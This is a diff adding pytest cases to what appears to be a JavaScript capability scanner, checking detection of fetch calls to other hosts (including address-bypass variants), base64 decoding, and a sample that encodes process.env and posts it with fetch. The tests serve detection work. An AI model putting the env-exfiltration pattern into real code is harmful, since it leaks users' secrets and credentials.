@@ -97,6 +97,29 @@ def test_it_is_known_when_code_runs(source, trigger):
     assert [observation.trigger for observation in read(source) if observation.sink == "eval"] == [trigger]
 
 
+def of_change(source):
+    notes = Notes("lib/kiln.js", every_line=True, is_program=True)
+    return {observation.capability for observation in read_javascript(notes.path, source.encode(), notes)}
+
+
+@pytest.mark.parametrize("address", ["'/pots'", '"/pots?a=" + b', "`/pots?a=${b}`"][::2])
+def test_a_page_of_a_change_may_ask_its_own_host(address):
+    assert not of_change(f"fetch({address})")
+    assert ids(read(f"fetch({address})")) == {"network"}
+
+
+@pytest.mark.parametrize(
+    "address", ["'//kiln.example'", "a", "'/' + a", "`/${a}`", r"'/\\kiln.example'", "'https://kiln.example'"]
+)
+def test_a_page_of_a_change_that_may_ask_another_host_is_seen(address):
+    assert of_change(f"fetch({address})") == {"network"}
+
+
+def test_what_a_buffer_is_made_from_is_decoded():
+    assert of_change("Buffer.from(x, 'base64').toString()") == {"decoding"}
+    assert of_change("Buffer.from(x, 'utf8').toString('base64')") == set()
+
+
 def test_collecting_and_sending_make_a_chain():
     (chain,) = chains(read("const d = btoa(JSON.stringify(process.env));\nfetch('u', {body: d})"))
     assert (chain.collects.line, chain.sends.line) == (1, 2)
